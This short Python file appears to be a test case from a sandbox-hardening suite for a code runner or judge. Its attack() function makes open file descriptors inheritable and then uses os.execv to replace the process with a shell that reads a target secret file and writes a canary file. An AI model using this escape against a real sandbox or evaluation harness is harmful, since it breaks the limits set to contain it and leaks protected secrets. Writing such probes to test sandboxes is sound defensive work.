# attack: Becomes another program in its own process, which keeps the connection to the judge.
# hurts: Leaves the runner, and limits that the runner itself keeps.
# ends: crash
# ends at B, C: crash or returns
import contextlib
import os

from _raw import attempt


def attack(target):
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            os.set_inheritable(number, True)
    command = f"cat {target['secret_file']}; echo x > {target['canary_folder']}/{target['note']}; sleep 0.3"
    return [attempt("exec", os.execv, "/bin/sh", ["sh", "-c", command])]
